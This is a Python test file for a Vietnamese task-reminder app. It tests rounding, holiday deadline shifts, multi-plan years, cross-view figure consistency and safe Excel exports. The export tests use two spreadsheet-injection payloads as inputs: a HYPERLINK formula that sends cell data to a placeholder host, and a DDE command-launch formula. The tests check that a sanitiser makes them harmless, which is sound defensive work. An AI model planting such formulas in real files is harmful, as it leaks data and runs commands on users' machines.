"""Figures a unit head cannot dispute (issue 13) and report files that are safe to open
(issue 18.2): deadlines on days off, two rates and a margin, one rounding everywhere, several
plans across the year end, text cells that stay text. Through the chat service, the CLI, the
chart's data and the Excel file read back with openpyxl, on real SQLite (and PostgreSQL where
the database does the counting)."""

from __future__ import annotations

import io
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import col, select

from bot.messages import Incoming, Reply
from nhacviec.app import App, build_app
from nhacviec.base import texts
from nhacviec.base.clock import FixedClock
from nhacviec.base.config import Config
from nhacviec.base.numbers import percent_tenths, percent_text
from nhacviec.reports.cells import sheet_text
from nhacviec.reports.chart import MAX_BARS, bar_label, chart_rows, status_chart
from nhacviec.reports.figures import facts_as_of, plan_figures
from rules import Thresholds, make_figures, margin_left
from rules.calendar import WorkingCalendar, effective_deadline
from scheduler.scan import Scanner
from storage import repo
from storage.db import session_scope, upgrade
from storage.importer import import_sheets, read_file
from storage.models import Plan, Task
from tests.bot.test_status_reports import unit_table
from tests.builders import plan_sheets, small_sheets, write_csv, write_xlsx
from tests.conftest import EXAMPLE_PLAN, legacy_config, link_chat, load
from tests.nhacviec.test_cli import nhacviec
from tests.scripted_year import play_year


def say(app: App, chat: str, text: str, channel: str = "console") -> list[Reply]:
    return app.chat.handle(Incoming(channel, chat, text))


def joined(replies: list[Reply]) -> str:
    return "\n".join(r.text for r in replies)


def set_day(app: App, day: date) -> None:
    clock = app.clock
    assert isinstance(clock, FixedClock)
    clock.set(FixedClock.on(day).now())


def report(app: App, chat: str, period: str) -> Any:
    replies = say(app, chat, f"/report {period}")
    assert replies[0].attachments, replies[0].text
    return load_workbook(io.BytesIO(replies[0].attachments[0].content))


def task_id(app: App, code: str) -> int:
    with session_scope(app.engine) as session:
        task = session.exec(select(Task).where(Task.code == code)).one()
        assert task.id is not None
        return task.id


# -- one rounding rule --


@pytest.mark.parametrize(
    ("part", "whole", "shown"),
    [
        (1, 15, "6,7%"),  # half up, not cut: 6,666…%
        (11, 37, "29,7%"),
        (2996, 10000, "29,9%"),  # 29,96% would round to 30,0%: below the line it never does
        (3, 10, "30%"),
        (2999, 10000, "29,9%"),
        (1, 3, "33,3%"),
        (2, 3, "66,7%"),
        (0, 0, "0%"),
        (1995, 10000, "19,9%"),  # below the 20% warning line as well
    ],
)
def test_one_rounding_rule(part: int, whole: int, shown: str) -> None:
    assert percent_text(percent_tenths(part, whole, (0.30, 0.20))) == shown


def test_the_margin_is_what_a_head_may_still_lose() -> None:
    # 20 tasks: 6 late or overdue is 30%, so 5 is the most; with 2 already, 3 more.
    assert margin_left(2, 20, 0.30) == 3
    assert margin_left(5, 20, 0.30) == 0
    assert margin_left(6, 20, 0.30) == 0
    assert margin_left(0, 21, 0.30) == 6  # 7/21 = 33,3% ≥ 30%, 6/21 = 28,6%
    assert margin_left(0, 0, 0.30) == 0
    t = Thresholds()
    # KHTC in March (issue 13): 2 of 21 overdue, nothing else settled yet.
    march = make_figures("KHTC", on_time=0, late=0, overdue=2, open_=19, due_soon=0, thresholds=t)
    assert (march.year_tenths, march.so_far_tenths, march.margin) == (95, 1000, 4)
    assert march.flag == "over" and march.basis == "so_far" and not march.year_over
    year_end = make_figures("VP", on_time=10, late=3, overdue=3, open_=0, due_soon=0, thresholds=t)
    assert year_end.flag == "over" and year_end.basis == "year" and year_end.year_over
    fine = make_figures("TS", on_time=9, late=1, overdue=0, open_=10, due_soon=0, thresholds=t)
    assert fine.flag == "ok" and fine.basis == "" and fine.margin == 4  # 5/20 < 30% ≤ 6/20


# -- safe report files (issue 18.2) --

FORMULA_TITLE = '=HYPERLINK("http://x?"&A1,"y")'
FORMULA_NOTE = "=cmd|' /C calc'!A0"
CONTROLS = "".join(chr(c) for c in range(0x20) if c != 0x0A)


def test_sheet_text_guards_formulas_and_replaces_control_characters() -> None:
    assert sheet_text(FORMULA_TITLE) == "'" + FORMULA_TITLE
    for start in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert sheet_text(start).startswith("'"), start
    assert sheet_text("Dòng 1\x0bDòng 2") == "Dòng 1\nDòng 2"  # Word's line break
    assert sheet_text("a\r\nb\tc") == "a\nb c"
    cleaned = sheet_text("x" + CONTROLS + "\ud800y")
    assert not re.search("[\x00-\x09\x0b-\x1f\ud800-\udfff]", cleaned)
    assert sheet_text("Báo cáo 6 tháng") == "Báo cáo 6 tháng"


def test_injected_cells_read_back_as_text_and_control_characters_never_break_the_report(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    app = build_app(legacy_config(), FixedClock.on(date(2023, 4, 3)), sqlite_engine)
    load(sqlite_engine, write_xlsx(tmp_path / "small.xlsx"))
    rows = [
        ["Mã", "Nhiệm vụ", "Lĩnh vực", "Đơn vị chủ trì", "Cơ quan giao", "Hạn"],
        ["NV-X1", FORMULA_TITLE, "1", "KHTC", "Giám đốc Sở", "20/03/2023"],
        [
            "NV-X2",
            "Tiêu đề có ký tự lạ" + CONTROLS.replace("\x00", ""),
            "6",
            "KHTC",
            "",
            "10/03/2023",
        ],
    ]
    with session_scope(sqlite_engine) as session:
        import_sheets(session, read_file(write_csv(tmp_path / "x.csv", rows)), "KH-TEST")
    app.sync_deadlines()
    with session_scope(sqlite_engine) as session:  # a NUL, as a SQL prompt could store it
        session.execute(
            sa.text("UPDATE task SET title = title || :nul WHERE code = 'NV-X2'"), {"nul": "\x00"}
        )
    link_chat(app, "CB04", "console", "khtc")
    link_chat(app, "CB02", "console", "tccb")
    x1, x2 = task_id(app, "NV-X1"), task_id(app, "NV-X2")
    assert "✅" in joined(say(app, "khtc", f"/done {x1} {FORMULA_NOTE}"))
    assert "📈" in joined(say(app, "khtc", f"/progress {x2} 40 ghi chú{CONTROLS[1:]}cuối"))
    wb = report(app, "tccb", "2023-Q2")  # today, 03/04/2023, is in the second quarter
    tasks = wb["Nhiệm vụ"]
    header = [c.value for c in tasks[1]]
    found = 0
    for row in tasks.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate
                assert not cell.value.startswith(("=", "+", "@")), cell.value
        by_name = dict(zip(header, row, strict=True))
        if by_name["ID"].value == x1:
            assert by_name["Nhiệm vụ"].value == "'" + FORMULA_TITLE
            assert by_name["Ghi chú cuối"].value == "'" + FORMULA_NOTE
            found += 1
        if by_name["ID"].value == x2:
            assert "Tiêu đề có ký tự lạ" in by_name["Nhiệm vụ"].value
            assert by_name["Ghi chú cuối"].value.startswith("ghi chú")
            found += 1
    assert found == 2
    history = wb["Lịch sử tiến độ"]
    notes = [r[9] for r in history.iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULA_NOTE in notes
    # The summary's rule line and every other text cell: text as well.
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)


# -- deadlines on days off (issue 13.1) --


def small_app(engine: Engine, tmp_path: Path, config: Config | None = None) -> App:
    """The small plan plus a monthly report due on the 25th (25/03/2023 is a Saturday,
    25/06/2023 a Sunday) and a task due on the 2023 National Day holiday."""
    sheets = small_sheets()
    sheets["Nhiệm vụ"] = [
        *sheets["Nhiệm vụ"],
        ["NV-06", "Báo cáo tháng", "6", "KHTC", "", "UBND tỉnh", "25/03/2023", "hàng tháng", ""],
        ["NV-07", "Báo cáo dịp Quốc khánh", "1", "VP", "", "Tỉnh ủy", "02/09/2023", "", ""],
    ]
    app = build_app(config or legacy_config(), FixedClock.on(date(2023, 3, 1)), engine)
    load(engine, write_xlsx(tmp_path / "plan.xlsx", sheets))
    app.sync_deadlines()
    return app


def test_a_saturday_deadline_met_on_monday_is_on_time(engine: Engine, tmp_path: Path) -> None:
    app = small_app(engine, tmp_path)
    link_chat(app, "CB04", "console", "khtc")
    link_chat(app, "CB02", "console", "tccb")
    march = task_id(app, "NV-06#1")
    with session_scope(app.engine) as session:
        task = session.get(Task, march)
        assert task is not None
        assert (task.deadline, task.due) == (date(2023, 3, 25), date(2023, 3, 27))
    set_day(app, date(2023, 3, 24))
    assert "Hạn 27/03/2023 (ghi 25/03, ngày nghỉ)" in joined(say(app, "khtc", "/tasks"))
    set_day(app, date(2023, 3, 27))
    done = joined(say(app, "khtc", f"/done {march}"))
    assert "ngày 27/03/2023 (đúng hạn)" in done
    # The task's own story says so too, with both deadlines.
    story = joined(say(app, "khtc", f"/task {march}"))
    assert "Hạn 27/03/2023 (ghi 25/03, ngày nghỉ)" in story
    assert "· đúng hạn" in story and "trễ" not in story
    page = joined(say(app, "tccb", "/status KHTC"))
    assert "   đúng 1 · trễ 0 · quá hạn" in page
    wb = report(app, "tccb", "2023-Q1")
    tasks = list(wb["Nhiệm vụ"].iter_rows(values_only=True))
    header = tasks[0]
    row = next(r for r in tasks[1:] if r[0] == march)
    assert row[header.index("Hạn")].date() == date(2023, 3, 27)
    assert row[header.index("Hạn ghi trong KH")].date() == date(2023, 3, 25)
    assert row[header.index("Kết quả")] == "xong đúng hạn"


def test_every_occurrence_of_a_series_and_holidays_move(engine: Engine, tmp_path: Path) -> None:
    app = small_app(engine, tmp_path)
    with session_scope(app.engine) as session:
        tasks = session.exec(
            select(Task).where(col(Task.series_code) == "NV-06").order_by(col(Task.deadline))
        ).all()
        moved = {t.deadline: t.due for t in tasks if t.deadline != t.due}
        national_day = session.exec(select(Task).where(Task.code == "NV-07")).one()
    # Saturdays and Sundays of the series: 25/03, 25/06, 25/11 (Sat) move to Monday.
    assert moved == {
        date(2023, 3, 25): date(2023, 3, 27),
        date(2023, 6, 25): date(2023, 6, 26),
        date(2023, 11, 25): date(2023, 11, 27),
    }
    # 02/09/2023 (Saturday, Quốc khánh) to 04/09 (off as well, in 2023): Tuesday 05/09.
    assert national_day.due == date(2023, 9, 5)


def test_tet_and_swap_days_from_the_calendar() -> None:
    calendar = WorkingCalendar(
        extra_holidays=[date(2024, 4, 29)], extra_working_days=[date(2024, 5, 4)]
    )
    # Tết Quý Mão: 20–26/01/2023 off; a deadline on 23/01 ends on Friday 27/01.
    assert effective_deadline(date(2023, 1, 23), calendar) == date(2023, 1, 27)
    # A swap day off (29/04/2024) joins 30/04 and 01/05: a deadline on it ends on 02/05.
    assert effective_deadline(date(2024, 4, 29), calendar) == date(2024, 5, 2)
    # A Saturday worked to make up for it stays a deadline.
    assert effective_deadline(date(2024, 5, 4), calendar) == date(2024, 5, 4)
    assert effective_deadline(date(2024, 5, 3), calendar) == date(2024, 5, 3)


def test_the_config_can_turn_the_rule_off_and_the_tasks_follow(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    app = small_app(sqlite_engine, tmp_path)
    march = task_id(app, "NV-06#1")
    config = legacy_config()
    config.rules.move_deadlines_off_days_off = False
    off = build_app(config, FixedClock.on(date(2023, 3, 28)), sqlite_engine)
    link_chat(off, "CB04", "console", "khtc")
    with session_scope(sqlite_engine) as session:
        task = session.get(Task, march)
        assert task is not None and task.due == task.deadline == date(2023, 3, 25)
    assert "(trễ 3 ngày)" in joined(say(off, "khtc", f"/done {march}"))
    # Turned on again: the stored completion is judged against Monday, on the next start.
    build_app(legacy_config(), FixedClock.on(date(2023, 3, 28)), sqlite_engine)
    with session_scope(sqlite_engine) as session:
        plan = session.exec(select(Plan)).one()
        figures = plan_figures(session, plan, date(2023, 3, 28), Config())
        khtc = figures.unit("KHTC")
        assert khtc is not None and khtc.late == 1  # done 28/03, due 27/03: still one day late


# -- every view agrees (issue 13.2, 13.4, 13.6) --


DAYS = [
    date(2023, 1, 20),  # the day before Tết
    date(2023, 3, 25),  # a Saturday
    date(2023, 3, 27),  # the Monday after
    date(2023, 5, 2),  # after the 29/04–03/05 holidays
    date(2023, 9, 30),
]


def test_chat_cli_chart_and_excel_show_the_same_digits(tmp_path: Path) -> None:
    config_file = tmp_path / "nhacviec.toml"
    config_file.write_text(
        f'[database]\nurl = "sqlite:///{tmp_path}/db.sqlite"\n'
        '[approvals]\nconfirm_completion = "none"\n',
        "utf-8",
    )
    from nhacviec.base.config import load_config

    app = build_app(load_config(config_file, env={}), FixedClock.on(date(2023, 1, 2)))
    load(app.engine, EXAMPLE_PLAN)
    play_year(app, date(2023, 9, 30))
    link_chat(app, "CB001", "console", "tccb")
    for day in DAYS:
        set_day(app, day)
        chat = joined(say(app, "tccb", "/status"))
        cli = nhacviec(
            "status", "--on", day.strftime("%d/%m/%Y"), cwd=tmp_path, config=config_file
        )
        assert cli.returncode == 0, cli.stderr
        period = f"2023-Q{(day.month - 1) // 3 + 1}"
        set_day(app, day)
        wb = report(app, "tccb", period)
        # The report's figures day is the period's end or today: `day` here.
        table = unit_table(wb["Tổng hợp"])
        with session_scope(app.engine) as session:
            plans = repo.plans_on(session, day)
            figures = plan_figures(session, plans, day, app.config)
        bars = {u.unit: bar_label(u) for u in chart_rows(figures.units, figures.thresholds)}
        for f in [*figures.units, figures.total]:
            if not f.assigned:
                continue
            code = "Toàn Sở" if f.unit == "*" else f.unit
            year, so_far = texts.tenths(f.year_tenths), texts.tenths(f.so_far_tenths)
            # chat
            rates = (
                f"năm {year} ({f.failed_or_late}/{f.assigned}) · "
                f"đến nay {so_far} ({f.failed_or_late}/{f.settled})"
            )
            if f.unit != "*" and figures.units.index(f) < 20:
                assert rates in chat, (day, code)
            # CLI
            line = next(li for li in cli.stdout.splitlines() if f"│ {code} " in li)
            cells = [c.strip() for c in line.split("│")[1:-1]]
            assert cells[6:9] == [year, so_far, str(f.margin)], (day, code, cells)
            # chart
            if f.unit in bars:
                assert bars[f.unit] == f"{year} · nay {so_far} · còn {f.margin}"
            # Excel: the cell holds the rounded rate, shown with one decimal
            row = table["*" if f.unit == "*" else f.unit]
            assert row[7] * 1000 == pytest.approx(f.year_tenths)
            assert row[9] * 1000 == pytest.approx(f.so_far_tenths)
            assert row[10] == f.margin
    app.engine.dispose()


def test_the_report_rate_cells_show_one_decimal(example_app: App) -> None:
    link_chat(example_app, "CB001", "console", "tccb")
    wb = report(example_app, "tccb", "2023-Q1")
    summary = wb["Tổng hợp"]
    header_row = next(
        r for r in summary.iter_rows() if [c.value for c in r[:3]] == ["Mã", "Đơn vị", "Giao"]
    )
    rate_cols = [n for n, c in enumerate(header_row) if c.value in ("Tỷ lệ năm", "Tỷ lệ đến nay")]
    row = next(summary.iter_rows(min_row=header_row[0].row + 1, max_row=header_row[0].row + 1))
    for n in rate_cols:
        assert row[n].number_format == "0.0%"
        assert round(row[n].value * 1000) == pytest.approx(row[n].value * 1000)


# -- the tally gives what the tasks give --


def test_figures_from_the_tally_equal_figures_from_every_task(
    engine: Engine, tmp_path: Path
) -> None:
    upgrade(engine)
    app = build_app(legacy_config(), FixedClock.on(date(2023, 1, 2)), engine)
    load(engine, EXAMPLE_PLAN)
    app.sync_deadlines()
    play_year(app, date(2023, 10, 20))
    with session_scope(engine) as session:
        plans = repo.plans_on(session, date(2023, 10, 20))
        ids = [p.id for p in plans if p.id is not None]
        for day in (date(2023, 10, 20), date(2023, 10, 23), date(2023, 12, 31)):
            kept = plan_figures(session, plans, day, app.config)
            counted = plan_figures(
                session, plans, day, app.config, facts_as_of(repo.task_facts(session, ids), {})
            )
            assert kept.units == counted.units, day
            assert kept.authorities == counted.authorities, day
            assert kept.criterion == counted.criterion, day
            assert [(a.tasks, a.done, a.late, a.overdue) for a in kept.areas] == [
                (a.tasks, a.done, a.late, a.overdue) for a in counted.areas
            ]
    assert kept.criterion is not None and kept.criterion.assigned == 50


def test_counted_authorities_and_the_criterion_line(sqlite_engine: Engine, tmp_path: Path) -> None:
    config = legacy_config()
    config.rules.counted_authorities = ["UBND tỉnh", "Tỉnh ủy", "HĐND tỉnh"]
    app = small_app(sqlite_engine, tmp_path, config)
    link_chat(app, "CB02", "console", "tccb")
    set_day(app, date(2023, 4, 3))
    text = joined(say(app, "tccb", "/status"))
    assert "Chỉ tính NV do UBND tỉnh, Tỉnh ủy, HĐND tỉnh giao" in text
    with session_scope(sqlite_engine) as session:
        plans = repo.plans_on(session, date(2023, 4, 3))
        figures = plan_figures(session, plans, date(2023, 4, 3), config)
        everything = plan_figures(session, plans, date(2023, 4, 3), Config())
    tccb = figures.unit("TCCB")
    assert tccb is not None and tccb.assigned == 0  # both its tasks are the director's
    assert everything.total.assigned - figures.total.assigned == 2 + 1  # NV-01, 02, 05
    assert "🏛 Tiêu chí 1.6 (NV Tỉnh ủy, HĐND, UBND giao)" in text
    assert "Theo cơ quan giao:" in text and "• Giám đốc Sở 3 NV" in text


# -- several plans across the year end (issue 13.5) --


PLAN_2024 = [
    ["NV24-01", "Kế hoạch CCHC năm 2024", "1", "TCCB", "", "Giám đốc Sở", "15/01/2024", "", ""],
    ["NV24-02", "Báo cáo quý I/2024", "6", "KHTC", "", "UBND tỉnh", "15/03/2024", "", ""],
]


def test_importing_next_years_plan_in_december_changes_nothing(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    app = build_app(legacy_config(), FixedClock.on(date(2023, 12, 1)), sqlite_engine)
    load(sqlite_engine, EXAMPLE_PLAN)
    for code, chat in (("CB009", "khtc"), ("CB001", "tccb"), ("CB006", "vp"), ("CB003", "t")):
        link_chat(app, code, "console", chat)
    scanner = Scanner(app.engine, app.config, app.calendar, app.clock)
    december = [date(2023, 12, 11), date(2023, 12, 18), date(2023, 12, 29)]
    before = {d: sorted(x.text for x in scanner.compute(d).deliveries) for d in december}
    status_before = joined(say(app, "tccb", "/status"))
    assert all(before.values())
    load(
        sqlite_engine, write_xlsx(tmp_path / "p24.xlsx", plan_sheets("CCHC-2024", 2024, PLAN_2024))
    )
    app.sync_deadlines()
    after = {d: sorted(x.text for x in scanner.compute(d).deliveries) for d in december}
    assert after == before
    assert joined(say(app, "tccb", "/status")) == status_before
    assert "CCHC-2023" in status_before
    # In January the 2024 plan is followed: its tasks are reminded, its figures shown.
    set_day(app, date(2024, 1, 10))
    january = scanner.compute(date(2024, 1, 10))  # 3 working days before 15/01
    assert any("Kế hoạch CCHC năm 2024" in d.text for d in january.deliveries)
    with session_scope(sqlite_engine) as session:
        ids_2024 = {t.id for t in session.exec(select(Task).where(Task.code.startswith("NV24")))}  # type: ignore[attr-defined]
    assert {i for d in january.digests for i in d.task_ids} <= ids_2024
    status = joined(say(app, "tccb", "/status"))
    assert status.startswith("📊 Tình hình CCHC-2024") and "Ngày 10/01/2024 · 2 nhiệm vụ" in status
    # The 2023 report still counts 2023's tasks.
    wb = report(app, "tccb", "2023")
    assert unit_table(wb["Tổng hợp"])["*"][2] == 188


def test_a_task_given_in_december_joins_the_plan_of_its_deadlines_year(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    """With 2024's plan imported, a task /giao adds in December for December stays with
    December's plans (reminded, counted in 2023); one due in 2024 joins the 2024 plan."""
    app = build_app(legacy_config(), FixedClock.on(date(2023, 12, 1)), sqlite_engine)
    load(sqlite_engine, EXAMPLE_PLAN)
    load(
        sqlite_engine, write_xlsx(tmp_path / "p24.xlsx", plan_sheets("CCHC-2024", 2024, PLAN_2024))
    )
    app.sync_deadlines()
    link_chat(app, "CB001", "console", "tccb")
    link_chat(app, "CB009", "console", "khtc")
    plans: dict[str, str] = {}
    for deadline in ("28/12/2023", "15/03/2024"):
        steps = ["/giao", "KHTC", f"Việc hạn {deadline}", deadline, "-", "-", "-", "-", "ok"]
        for answer in steps:
            say(app, "tccb", answer)
        with session_scope(sqlite_engine) as session:
            task = session.exec(select(Task).order_by(col(Task.id).desc())).first()
            assert task is not None and task.title == f"Việc hạn {deadline}"
            plan = session.get(Plan, task.plan_id)
            assert plan is not None
            plans[deadline] = plan.code
    assert plans == {"28/12/2023": "CCHC-2023", "15/03/2024": "CCHC-2024"}
    scanner = Scanner(app.engine, app.config, app.calendar, app.clock)
    reminded = scanner.compute(date(2023, 12, 27))
    assert any("Việc hạn 28/12/2023" in d.text for d in reminded.deliveries)


def test_two_plans_of_one_year_count_together(sqlite_engine: Engine, tmp_path: Path) -> None:
    app = build_app(legacy_config(), FixedClock.on(date(2023, 4, 3)), sqlite_engine)
    load(sqlite_engine, write_xlsx(tmp_path / "small.xlsx"))
    work = [["CT-01", "Nhiệm vụ của chương trình công tác", "6", "KHTC", "", "UBND tỉnh",
             "20/03/2023", "", ""]]  # fmt: skip
    load(sqlite_engine, write_xlsx(tmp_path / "ct.xlsx", plan_sheets("CTCT-2023", 2023, work)))
    link_chat(app, "CB02", "console", "tccb")
    link_chat(app, "CB04", "console", "khtc")
    status = joined(say(app, "tccb", "/status"))
    assert status.startswith("📊 Tình hình KH-TEST + CTCT-2023")
    assert "Ngày 03/04/2023 · 20 nhiệm vụ" in status
    assert "Nhiệm vụ của chương trình công tác" in joined(say(app, "khtc", "/tasks"))
    scan = Scanner(app.engine, app.config, app.calendar, app.clock).compute(date(2023, 4, 3))
    assert any("Nhiệm vụ của chương trình công tác" in d.text for d in scan.deliveries)


# -- the chart at a province's scale --


def test_the_chart_stays_readable_at_any_number_of_units() -> None:
    t = Thresholds()
    units = [
        make_figures(
            f"U{n:03}", on_time=n % 7, late=n % 3, overdue=n % 5, open_=4, due_soon=0, thresholds=t
        )
        for n in range(500)
    ]
    units.sort(key=lambda u: (-u.year_tenths, u.unit))
    rows = chart_rows(units, t)
    assert len(rows) == MAX_BARS
    assert rows[-1].unit == f"{500 - MAX_BARS + 1} đơn vị khác"
    assert sum(r.assigned for r in rows) == sum(u.assigned for u in units)
    png = status_chart(units, t, date(2023, 6, 30))
    from matplotlib.image import imread

    height, width = imread(io.BytesIO(png)).shape[:2]
    assert width == 1080 and width + height <= 10_000 and height / width <= 20
    assert len(png) < 10 * 1024 * 1024


async def test_the_web_page_judges_a_saturday_deadline_as_chat_does(
    engine: Engine, tmp_path: Path
) -> None:
    """The task's page and the unit's list show the effective deadline beside the written one,
    and the outcome the figures count: on time, not 2 days late."""
    from aiohttp.test_utils import TestClient, TestServer

    from nhacviec.web.routes import web_application
    from tests.web_helpers import sign_in, web_deps

    app = small_app(engine, tmp_path)
    link_chat(app, "CB04", "console", "khtc")
    march = task_id(app, "NV-06#1")
    set_day(app, date(2023, 3, 27))
    say(app, "khtc", f"/done {march}")
    async with TestClient(TestServer(web_application(web_deps(app)))) as client:
        await sign_in(client, app, "CB02")
        page = await (await client.get(f"/nhiem-vu/{march}")).text()
        assert "27/03/2023 (ghi 25/03/2023, ngày nghỉ)" in page
        assert "trễ" not in page.split("<h2", 1)[0]
        unit = await (await client.get("/don-vi/KHTC")).text()
        row = next(r for r in unit.split("<tr ")[1:] if f'href="/nhiem-vu/{march}"' in r)
        assert "27/03/2023" in row and "ghi 25/03/2023" in row
        assert 'class="o-done_on_time"' in "<tr " + row


def test_status_and_areas_show_the_self_scores_score_records(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    """The day's first plan has no areas (a programme kept apart, nothing in it yet): /score
    records on the CCHC plan (the first with areas), and /status and /areas show those very
    scores, as the web page does."""
    app = build_app(legacy_config(), FixedClock.on(date(2023, 4, 3)), sqlite_engine)
    with session_scope(sqlite_engine) as session:
        session.add(Plan(code="CTCT-2023", name="Chương trình công tác", year=2023))
    load(sqlite_engine, write_xlsx(tmp_path / "small.xlsx"))
    with session_scope(sqlite_engine) as session:
        plans = repo.plans_on(session, date(2023, 4, 3))
        assert [p.code for p in plans] == ["CTCT-2023", "KH-TEST"]  # the programme first
    link_chat(app, "CB02", "console", "tccb")
    assert "Đã ghi" in joined(say(app, "tccb", "/score 1 9"))
    status = joined(say(app, "tccb", "/status"))
    areas = joined(say(app, "tccb", "/areas"))
    assert "📝 Tự chấm 1/" in status, status
    assert "📝 Tự chấm 1/" in areas, areas
